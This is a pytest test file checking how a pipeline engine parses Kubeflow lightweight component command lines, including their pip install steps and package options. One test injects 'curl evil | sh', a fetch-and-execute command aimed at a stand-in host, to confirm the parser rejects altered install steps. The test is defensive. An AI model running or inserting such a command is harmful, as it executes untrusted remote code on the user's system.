"""The engine reads what a lightweight component's command line needs, once, as it
builds the launch: ours and kfp's, compiled by the real compilers; anything else is a
plain command, run as it is."""

import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from kfp import compiler as kfp_compiler
from kfp import dsl as kfp_dsl

from dagyard.engine.python_functions import python_function, task_command
from dagyard.executors.base import Command
from dagyard.runtime.embed import lightweight_container

pytestmark = pytest.mark.kfp

KFP = "kfp==2.17.0"
TYPING = 'typing-extensions>=3.7.4,<5; python_version<"3.9"'


def kfp_argv(component: Any, tmp_path: Path) -> list[str]:
    """command + args of `component` as kfp compiles it (placeholders left in)."""
    path = tmp_path / "component.yaml"
    kfp_compiler.Compiler().compile(component, str(path))
    spec = yaml.safe_load(path.read_text())
    (executor,) = spec["deploymentSpec"]["executors"].values()
    return [*executor["container"]["command"], *executor["container"]["args"]]


@kfp_dsl.component(base_image="python:3.11")
def plain(a: int) -> int:
    return a


@kfp_dsl.component(
    base_image="python:3.11",
    packages_to_install=["six==1.16.0", "requests>=2"],
    pip_index_urls=["https://a.example/simple", "http://b.example/simple"],
)
def with_packages(a: int) -> int:
    return a


@kfp_dsl.component(base_image="python:3.11", use_venv=True, packages_to_install=["six"])
def in_venv(a: int) -> int:
    return a


@kfp_dsl.component(base_image="python:3.11", install_kfp_package=False)
def no_kfp(a: int) -> int:
    return a


@kfp_dsl.component(base_image="python:3.11", install_kfp_package=False, packages_to_install=["six"])
def no_kfp_with_packages(a: int) -> int:
    return a


@pytest.mark.parametrize(
    ("component", "requirements", "index_urls"),
    [
        (plain, [KFP, TYPING], []),
        (
            with_packages,
            ["six==1.16.0", "requests>=2", KFP, TYPING],
            ["https://a.example/simple", "http://b.example/simple"],
        ),
        (in_venv, ["six", KFP, TYPING], []),
        (no_kfp_with_packages, ["six"], []),
    ],
    ids=["plain", "packages-and-indexes", "use-venv", "no-kfp-with-packages"],
)
def test_kfp_install_step_is_read_and_skipped(
    component: Any, requirements: list[str], index_urls: list[str], tmp_path: Path
) -> None:
    argv = kfp_argv(component, tmp_path)
    command = python_function(argv)
    assert command is not None and command.runner == "kfp"
    assert list(command.packages) == requirements
    assert list(command.index_urls) == index_urls
    body = command.argv_for("/any/python")
    assert body == argv[3:]  # what `"$0" "$@"` would have run
    assert body[:2] == ["sh", "-ec"] and "kfp.dsl.executor_main" in body[2]


def test_kfp_command_without_install_step_needs_nothing(tmp_path: Path) -> None:
    argv = kfp_argv(no_kfp, tmp_path)
    command = python_function(argv)
    assert command is not None and command.runner == "kfp"
    assert command.packages == () and command.argv_for("/any/python") == argv


def test_an_install_step_that_does_more_than_pip_is_run_as_it_is(tmp_path: Path) -> None:
    argv = kfp_argv(plain, tmp_path)
    argv[2] = argv[2].replace("python3 -m pip install", "curl evil | sh; python3 -m pip install")
    assert python_function(argv) is None
    argv = kfp_argv(plain, tmp_path)
    argv[2] = argv[2].replace("--no-deps", "--target=/somewhere")
    assert python_function(argv) is None


@pytest.mark.parametrize(
    "argv",
    [
        ["sh", "-c", 'echo "$0" > "$1"', "hello", "/tmp/out"],
        ["python3", "-c", "print(1)"],
        ["python3", "-m", "kfp.dsl.executor_main", "--component_module_path", "x.py"],
        [],
    ],
)
def test_other_commands_are_not_python_components(argv: list[str]) -> None:
    assert python_function(argv) is None
    assert task_command(argv) == Command(tuple(argv))


def test_our_command_gets_the_interpreter_and_loses_its_package_options() -> None:
    command, args = lightweight_container(
        function_source="def f() -> int:\n    return 1\n",
        function_name="f",
        packages_to_install=["six>=1", "pytest"],
        pip_index_urls=["https://a.example/simple"],
    )
    parsed = python_function(command + args)
    assert parsed is not None and parsed.runner == "dagyard"
    assert task_command(command + args) == parsed
    assert parsed.argv == (*command, *args)  # what an image would run, install step included
    assert parsed.packages == ("six>=1", "pytest")
    assert parsed.index_urls == ("https://a.example/simple",)
    assert parsed.argv_for("/env/bin/python") == [
        "/env/bin/python",
        "-c",
        command[2],
        "--function_source",
        command[-1],
        *args,
    ]


def test_our_command_without_packages_only_changes_the_interpreter() -> None:
    command, args = lightweight_container(function_source="def f(): pass\n", function_name="f")
    parsed = python_function(command + args)
    assert parsed is not None and parsed.packages == () and parsed.index_urls == ()
    assert parsed.argv_for("/py") == ["/py", *command[1:], *args]


def test_our_command_with_malformed_options_is_left_to_the_runtime() -> None:
    command, args = lightweight_container(
        function_source="def f(): pass\n", function_name="f", packages_to_install=["six"]
    )
    command[4] = json.dumps({"not": "a list"})
    assert python_function(command + args) is None


@kfp_dsl.component(base_image="python:3.11", packages_to_install=["google-cloud-storage==1.31.2"])
def old_pin(a: int) -> int:
    return a


def test_kfp_is_installed_without_its_dependencies_after_the_packages(tmp_path: Path) -> None:
    """kfp's `_get_packages_to_install_command` writes `pip install PACKAGES && pip install
    kfp==V --no-deps 'typing-extensions...'`: the component's packages are resolved
    without kfp, so an old pin that conflicts with kfp's own dependencies still installs."""
    command = python_function(kfp_argv(old_pin, tmp_path))
    assert command is not None
    assert command.packages == ("google-cloud-storage==1.31.2", KFP, TYPING)
    assert command.no_deps == (KFP, TYPING)
    plain_command = python_function(kfp_argv(no_kfp_with_packages, tmp_path))
    assert plain_command is not None and plain_command.no_deps == ()


def test_kfps_runner_script_is_recognised_for_forking(tmp_path: Path) -> None:
    argv = kfp_argv(plain, tmp_path)
    command = python_function(argv)
    assert command is not None and command.kfp_program == tuple(argv[6:])
    assert command.kfp_program[0].lstrip().startswith("import kfp")
    changed = [*argv[:4], argv[4], argv[5].replace("mktemp -d", "mktemp -d -p /x"), *argv[6:]]
    other = python_function(changed)
    assert other is not None and other.kfp_program is None  # run as it is
